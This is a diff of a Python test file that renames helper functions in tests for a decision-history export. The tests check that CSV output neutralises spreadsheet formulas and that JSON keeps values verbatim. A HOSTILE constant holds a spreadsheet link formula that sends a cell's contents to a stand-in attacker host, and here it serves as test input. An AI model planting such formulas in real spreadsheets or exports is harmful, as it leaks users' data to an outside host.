@@ -9,16 +9,16 @@ import json
 from council.domain.filters import DecisionFilter
 from council.services.decision_export import COLUMNS, export_rows, history_csv, history_json
 from council.services.workspace import Workspace
-from tests.services.test_decisions import _decide, _person
+from tests.services.conftest import add_person, decide
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
 
 def test_the_csv_holds_the_filtered_rows_with_formulas_neutralised(empty: Workspace) -> None:
     ws = empty
-    owner = _person(ws, "Marieke Jansen", "member")
-    _decide(ws, HOSTILE, "+31 20 123 4567 is the new number.", '@SUM(1) and "quotes"', owner)
-    _decide(ws, "Meter photos", "-5% typing errors.", "Wrong bills.", owner, department="it")
+    owner = add_person(ws, "Marieke Jansen", "member")
+    decide(ws, HOSTILE, "+31 20 123 4567 is the new number.", '@SUM(1) and "quotes"', owner)
+    decide(ws, "Meter photos", "-5% typing errors.", "Wrong bills.", owner, department="it")
 
     rows = export_rows(ws, DecisionFilter(departments=("service",)))
     text = history_csv(rows).decode("utf-8-sig")
@@ -36,8 +36,8 @@ def test_the_csv_holds_the_filtered_rows_with_formulas_neutralised(empty: Worksp
 
 def test_the_json_keeps_every_value_exactly_as_recorded(empty: Workspace) -> None:
     ws = empty
-    owner = _person(ws, "Marieke Jansen", "member")
-    _decide(ws, HOSTILE, "Text.", "Why.", owner, stage="support")
+    owner = add_person(ws, "Marieke Jansen", "member")
+    decide(ws, HOSTILE, "Text.", "Why.", owner, stage="support")
     [row] = json.loads(history_json(export_rows(ws, DecisionFilter())))
     assert row["title"] == HOSTILE
     assert (row["decision"], row["status"], row["journey_stages"]) == (
